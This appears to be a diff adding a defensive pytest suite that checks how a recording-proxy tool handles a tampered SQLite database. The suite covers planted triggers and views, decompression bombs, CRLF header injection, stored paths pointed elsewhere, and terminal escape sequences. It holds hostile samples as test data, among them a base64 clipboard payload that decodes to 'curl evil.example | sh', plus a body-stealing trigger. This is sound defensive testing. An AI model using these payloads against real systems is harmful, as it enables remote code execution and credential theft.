@@ -1,0 +1,397 @@
+"""A vcr.db from elsewhere is data: a real recording made by the proxy, then edited with sqlite3 as an attacker
+who sends the file through git would (planted triggers and views, decompression bombs), and every command that
+reads it must refuse in one line or stay within bounds, never run the planted code, hang or take gigabytes."""
+
+from __future__ import annotations
+
+import dataclasses
+import gzip
+import json
+import random
+import sqlite3
+import string
+from pathlib import Path
+
+import pytest
+import zstandard
+from claude_vcr.catalog import Catalog, live_chunk_ids
+from claude_vcr.compression import BODY_CEILING, InflateLimit, decode_json, decompressor, inflate
+from claude_vcr.errors import DatabaseError
+from claude_vcr.interchange.mitm import ContentDecodingError, decode_content
+from claude_vcr.lint import lint_detail
+from claude_vcr.records import FrameOverrun
+from claude_vcr.ui.pages import EVENTS_PAGE, recording_page
+
+from tests.support import hostile
+from tests.support.cassettes import recording, save_all
+from tests.support.client import call, params
+
+
+@pytest.fixture
+def real_db(proxy, db_path: Path) -> Path:
+    """Two exchanges recorded by the real proxy (one JSON, one stream) with an API key in the prompt."""
+    recorder = proxy(mode="record")
+    call(recorder.url + "/c/basic", **params("Hi there"))
+    call(recorder.url + "/c/basic", **params("Tell me a story", model="claude-haiku-4-5", stream=True))
+    recorder.stop()
+    return db_path
+
+
+def _one_line_refusal(result, *expected: str) -> None:
+    assert result.returncode == 1, (result.stdout, result.stderr)
+    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
+    for text in expected:
+        assert text in result.stderr, result.stderr
+
+
+def _key(db: Path) -> str:
+    with Catalog.open(db) as catalog:
+        return next(r.key for r in catalog.recordings("basic"))
+
+
+@pytest.mark.parametrize(
+    "command", [["scan"], ["redact", "--yes"], ["compact"], ["list"], ["cassettes"], ["dump"]]
+)
+def test_a_planted_trigger_is_refused_by_every_command_and_never_runs(real_db, command):
+    hostile.plant_body_thief(real_db)
+    before = real_db.read_bytes()
+    args = [*command, real_db] if command == ["dump"] else [*command, "--db", real_db]
+    _one_line_refusal(hostile.run(*args), "trigger steal", "table stolen", "refused")
+    assert real_db.read_bytes() == before
+    conn = sqlite3.connect(real_db)
+    assert conn.execute("SELECT count(*) FROM stolen").fetchone()[0] == 0
+    conn.close()
+
+
+def test_a_trigger_with_one_of_our_names_but_other_sql_is_refused(real_db):
+    hostile.execute(
+        real_db,
+        "DROP TRIGGER recording_totals_update",
+        "CREATE TABLE stolen (body BLOB)",
+        "CREATE TRIGGER recording_totals_update AFTER UPDATE ON recordings BEGIN "
+        "INSERT INTO stolen VALUES (OLD.request_body); END",
+    )
+    _one_line_refusal(hostile.run("scan", "--db", real_db), "trigger recording_totals_update")
+
+
+@pytest.mark.parametrize("command", [["dump"], ["cassettes"], ["list"], ["scan"], ["stats"]])
+def test_a_planted_recursive_view_does_not_hang_anything(real_db, command):
+    hostile.plant_recursive_view(real_db)
+    args = [*command, real_db] if command == ["dump"] else [*command, "--db", real_db]
+    _one_line_refusal(hostile.run(*args, timeout=60), "view recording_totals")
+
+
+def test_a_db_with_only_our_schema_still_opens_and_compacts(real_db):
+    assert hostile.run("compact", "--db", real_db).returncode == 0
+    conn = sqlite3.connect(real_db)
+    kinds = sorted(conn.execute("SELECT type, name FROM sqlite_master WHERE name NOT LIKE 'sqlite_%'"))
+    conn.close()
+    assert ("trigger", "recording_totals_insert") in kinds and not [k for k in kinds if k[0] == "view"]
+    assert hostile.run("scan", "--db", real_db).returncode == 0
+
+
+# --- bombs -------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("declared", [True, False], ids=["size-in-header", "streamed-frame"])
+def test_inflate_refuses_past_its_limit_without_allocating_it(declared):
+    frame = hostile.bomb_frame(64 * 1024 * 1024, declared=declared)
+    assert len(frame) < 64 * 1024
+    with pytest.raises(InflateLimit, match="past its limit of 1,000,000"):
+        inflate(zstandard.ZstdDecompressor(), frame, 1_000_000)
+    assert len(inflate(zstandard.ZstdDecompressor(), frame, 64 * 1024 * 1024)) == 64 * 1024 * 1024
+
+
+def test_no_limit_is_above_the_hard_ceiling():
+    frame = hostile.bomb_frame(BODY_CEILING + 1024 * 1024, declared=True)
+    with pytest.raises(InflateLimit):
+        inflate(zstandard.ZstdDecompressor(), frame, 10 * BODY_CEILING)
+
+
+def test_a_metadata_json_bomb_is_refused():
+    frame = zstandard.ZstdCompressor().compress(b"[" + b"0," * (20 * 1024 * 1024) + b"0]")
+    with pytest.raises(InflateLimit):
+        decode_json(frame, zstandard.ZstdDecompressor(), limit=1024 * 1024)
+
+
+@pytest.mark.parametrize("declared", [True, False], ids=["size-in-header", "streamed-frame"])
+@pytest.mark.parametrize("command", ["show", "scan", "export"])
+def test_a_4_gib_response_bomb_is_one_line_for_show_scan_and_export(real_db, tmp_path, command, declared):
+    hostile.plant_response_bomb(real_db, hostile.bomb_frame(4 * hostile.GIB, declared=declared))
+    args = {
+        "show": ["show", _key(real_db), "--db", real_db],
+        "scan": ["scan", "--db", real_db],
+        "export": ["export", tmp_path / "out", "--db", real_db],
+    }[command]
+    result = hostile.run(*args)
+    _one_line_refusal(result, "past its limit", "a damaged db, or one made to exhaust memory")
+
+
+# --- stored paths, names and text ----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "template", ["@127.0.0.1:{port}/v1/messages", "//127.0.0.1:{port}/v1/messages", "/v1/messages\r\nHost: x"]
+)
+def test_verify_never_sends_the_key_where_a_stored_path_points(real_db, upstream, template):
+    canary = hostile.Canary()
+    try:
+        hostile.execute(
+            real_db, "UPDATE recordings SET path = ?", params=(template.format(port=canary.port),)
+        )
+        result = hostile.run(
+            "verify",
+            "--target",
+            upstream.url,
+            "--db",
+            real_db,
+            "--timeout",
+            "5",
+        )
+    finally:
+        canary.close()
+    assert canary.connections == 0
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert result.stdout.count("not sent: stored path") == 2, result.stdout
+    assert "\r" not in result.stdout
+
+
+def test_export_refuses_a_cassette_name_with_a_trailing_newline(real_db, tmp_path):
+    hostile.execute(real_db, "UPDATE cassettes SET name = 'base' || char(10)")
+    out = tmp_path / "out"
+    result = hostile.run("export", out, "--db", real_db)
+    assert result.returncode == 1 and "Traceback" not in result.stderr
+    assert not any("\n" in p.name for p in tmp_path.rglob("*"))
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+HIDDEN = "\x1b[8m hidden \x1b[0m\r\u202e"
+
+
+@pytest.mark.parametrize("command", ["list", "dump", "show", "cassettes-json"])
+def test_control_characters_from_a_db_never_reach_the_terminal(real_db, command):
+    hostile.execute(
+        real_db, "UPDATE recordings SET model = ?1, path = '/v1/messages' || ?1", params=(OSC52 + HIDDEN,)
+    )
+    args = {
+        "list": ["list", "--db", real_db],
+        "dump": ["dump", real_db],
+        "show": ["show", _key(real_db), "--db", real_db],
+        "cassettes-json": ["list", "--json", "--db", real_db],
+    }[command]
+    result = hostile.run(*args)
+    assert result.returncode == 0, result.stderr
+    for character in "\x1b\x07\r\u202e":
+        assert character not in result.stdout
+    assert "\\u001b]52;c;" in result.stdout
+
+
+# --- files from elsewhere: a .mitm dump ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("coding", ["zstd", "gzip", "deflate"])
+def test_a_mitm_bomb_is_skipped_as_undecodable_not_imported(tmp_path, db_path, coding):
+    dump = tmp_path / "bomb.mitm"
+    size = hostile.bomb_mitm_dump(dump, coding, hostile.GIB if coding == "zstd" else 256 * 1024 * 1024)
+    assert size < 1024 * 1024
+    result = hostile.run("import", dump, "--db", db_path)
+    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
+    assert "body not decodable" in result.stdout + result.stderr
+    conn = sqlite3.connect(db_path)
+    assert conn.execute("SELECT count(*), max(response_size) FROM recordings").fetchone() == (1, 14)
+    conn.close()
+
+
+def test_decode_content_is_bounded_for_every_coding():
+    brotli = pytest.importorskip("brotli")
+    big = bytes(4 * 1024 * 1024)
+    encodings = {
+        "br": brotli.compress(big),
+        "zstd": zstandard.ZstdCompressor().compress(big),
+        "gzip": gzip.compress(big) + gzip.compress(b"second member"),
+    }
+    for coding, data in encodings.items():
+        whole = big + (b"second member" if coding == "gzip" else b"")
+        assert decode_content([("content-encoding", coding)], data) == whole
+        with pytest.raises(ContentDecodingError, match="inflates past 1,000,000 bytes"):
+            decode_content([("content-encoding", coding)], data, limit=1_000_000)
+
+
+# --- long valid streams: linear folds, paged pages ------------------------------------------------------------
+
+
+def test_the_ui_pages_a_long_stream_and_folds_all_of_it(real_db):
+    hostile.plant_long_stream(real_db, 3000)
+    with Catalog.open(real_db) as catalog:
+        detail = catalog.detail(next(r for r in catalog.recordings("basic") if r.stream).id)
+    first = recording_page(detail, lint_detail(detail))
+    assert "word " * 3000 in first  # the folded text is whole
+    assert f"events 0–{EVENTS_PAGE - 1:,} of 3,005" in first and 'id="event-499"' in first
+    assert 'id="event-500"' not in first and f"?events={EVENTS_PAGE}#events" in first
+    last = recording_page(detail, lint_detail(detail), 2900)
+    assert 'id="event-3004"' in last and 'id="event-2899"' not in last and 'rel="next"' not in last
+    assert len(first) < 400_000
+
+
+def test_show_and_lint_of_a_long_stream_are_whole(real_db):
+    hostile.plant_long_stream(real_db, 20_000)
+    with Catalog.open(real_db) as catalog:
+        key = next(r.key for r in catalog.recordings("basic") if r.stream)
+    shown = hostile.run("show", key[:12], "--db", real_db)
+    assert shown.returncode == 0 and "Traceback" not in shown.stderr
+    assert shown.stdout.count("content_block_delta") >= 20_000
+    linted = hostile.run("lint", "--db", real_db)
+    assert linted.returncode == 0, linted.stdout + linted.stderr
+
+
+# --- deleting leaves no copy -----------------------------------------------------------------------------------
+
+
+def _chunked_secret_db(db: Path) -> str:
+    """A recording whose request (over 4 KB, so stored as chunks) holds a key, and one other recording."""
+    noise = random.Random(23)
+    secret = (
+        "sk-" + "ant-api03-" + "".join(noise.choice(string.ascii_letters + string.digits) for _ in range(90))
+    )
+    body = json.dumps(
+        {
+            "model": "claude-haiku-4-5",
+            "messages": [{"role": "user", "content": "x" * 6000 + f" key {secret} " + "y" * 6000}],
+        }
+    ).encode()
+    save_all(
+        db,
+        [
+            dataclasses.replace(recording(1, cassette="gone"), request_body=body),
+            recording(2, cassette="kept"),
+        ],
+    )
+    return secret
+
+
+def _orphan_chunks(db: Path) -> int:
+    conn = sqlite3.connect(db)
+    try:
+        live = live_chunk_ids(conn)
+        return sum(1 for (identifier,) in conn.execute("SELECT id FROM chunks") if identifier not in live)
+    finally:
+        conn.close()
+
+
+@pytest.mark.parametrize("how", ["delete", "clear"])
+def test_delete_and_clear_leave_no_copy_of_a_chunked_request(db_path, how):
+    secret = _chunked_secret_db(db_path)
+    conn = sqlite3.connect(db_path)
+    inflate_chunk = decompressor().decompress  # chunks are written with the shipped dictionary
+    holding = [
+        data for (data,) in conn.execute("SELECT data FROM chunks") if secret.encode() in inflate_chunk(data)
+    ]
+    conn.close()
+    assert len(holding) == 1 and holding[0] in db_path.read_bytes()  # the compressed chunk, as stored
+    with Catalog.open(db_path) as catalog:
+        key = next(r.key for r in catalog.recordings("gone"))
+    args = (
+        ["delete", key[:12], "--db", db_path]
+        if how == "delete"
+        else ["clear", "gone", "--yes", "--db", db_path]
+    )
+    result = hostile.run(*args)
+    assert result.returncode == 0, result.stderr
+    assert _orphan_chunks(db_path) == 0
+    assert holding[0] not in db_path.read_bytes()  # neither a row nor a freed page keeps it
+    assert "kept" in hostile.run("cassettes", "--db", db_path).stdout
+
+
+def test_scan_reads_unused_chunks_and_redact_drops_them(db_path):
+    secret = _chunked_secret_db(db_path)
+    hostile.execute(
+        db_path, "DELETE FROM recordings WHERE cassette_id = (SELECT id FROM cassettes WHERE name = 'gone')"
+    )
+    assert _orphan_chunks(db_path) > 0  # as an older version's delete left them
+    scanned = hostile.run("scan", "--db", db_path)
+    assert "unused chunk" in scanned.stdout and "anthropic-key" in scanned.stdout, scanned.stdout
+    assert secret not in scanned.stdout
+    assert hostile.run("redact", "--yes", "--db", db_path).returncode == 0
+    assert _orphan_chunks(db_path) == 0
+    assert "No credential-shaped strings found" in hostile.run("scan", "--db", db_path).stdout
+
+
+def test_a_fingerprints_bomb_is_refused_at_a_megabyte_in_one_line(real_db):
+    hostile.execute(
+        real_db,
+        "UPDATE recordings SET fingerprints = ?",
+        params=(hostile.bomb_frame(hostile.GIB, declared=False),),
+    )
+    with Catalog.open(real_db) as catalog:
+        with pytest.raises(DatabaseError, match="past its limit of 1,048,576") as raised:
+            catalog.candidates("basic", "POST", "/v1/messages")
+    assert "\n" not in str(raised.value) and str(real_db) in str(raised.value)
+
+
+def test_a_key_in_a_stored_path_or_query_name_is_scanned_and_redacted(real_db):
+    secret = "sk-" + "ant-api03-" + "".join(random.Random(5).choice(string.ascii_letters) for _ in range(60))
+    hostile.execute(
+        real_db,
+        "UPDATE recordings SET path = ? WHERE stream = 0",
+        params=(f"/v1/{secret}/messages?beta=true",),
+    )
+    hostile.execute(
+        real_db, "UPDATE recordings SET path = ? WHERE stream = 1", params=(f"/v1/messages?{secret}=1",)
+    )
+    scanned = hostile.run("scan", "--db", real_db)
+    assert "credential-in-path" in scanned.stdout and "credential-parameter" in scanned.stdout, scanned.stdout
+    assert secret not in scanned.stdout
+    assert hostile.run("redact", "--yes", "--db", real_db).returncode == 0
+    listed = hostile.run("list", "--db", real_db).stdout
+    assert secret not in listed and "REDACTED:anthropic-key:" in listed
+    assert "No credential-shaped strings found" in hostile.run("scan", "--db", real_db).stdout
+
+
+# --- stored statuses and headers are checked where they are read -----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("statement", "expected"),
+    [
+        ("UPDATE recordings SET status = '200 OK\r\nLocation: http://evil.example/'", "stored status"),
+        ("UPDATE recordings SET status = 99999", "stored status"),
+        (
+            "UPDATE recordings SET response_headers = "
+            '\'[["content-type","application/json"],["x-a","1\\r\\nSet-Cookie: s=1"]]\'',
+            "stored header",
+        ),
+        ('UPDATE recordings SET response_headers = \'[["bad name","1"]]\'', "stored header"),
+        ('UPDATE recordings SET request_headers = \'{"not": "pairs"}\'', "stored headers"),
+    ],
+    ids=["text-status", "huge-status", "crlf-header", "bad-header-name", "headers-not-pairs"],
+)
+def test_a_stored_status_or_header_http_forbids_is_one_line(real_db, statement, expected):
+    key = _key(real_db)
+    hostile.execute(real_db, statement)
+    result = hostile.run("show", key[:12], "--db", real_db)
+    _one_line_refusal(result, expected, "refused", str(real_db))
+    with Catalog.open(real_db) as catalog:
+        with pytest.raises(DatabaseError, match=expected):
+            catalog.detail(catalog.resolve(key[:12]))
+
+
+def test_a_row_claiming_a_body_past_the_ceiling_is_never_inflated(real_db):
+    hostile.execute(real_db, "UPDATE recordings SET response_size = ?", params=(4 * hostile.GIB,))
+    _one_line_refusal(
+        hostile.run("show", _key(real_db)[:12], "--db", real_db), "recorded size of 4,294,967,296"
+    )
+
+
+def test_a_frame_longer_than_its_row_stops_replay_at_the_recorded_size(real_db):
+    with Catalog.open(real_db) as catalog:
+        row = next(r for r in catalog.recordings("basic") if r.stream)
+        detail = catalog.detail(row)
+    detail.response_frame = zstandard.ZstdCompressor(write_content_size=False).compress(
+        bytes(10 * 1024 * 1024)
+    )
+    detail.response_length = 5 * 1024 * 1024
+    reader = detail.response_reader()
+    assert len(reader.read(4 * 1024 * 1024)) == 4 * 1024 * 1024
+    with pytest.raises(FrameOverrun):
+        while reader.read(1024 * 1024):
+            pass
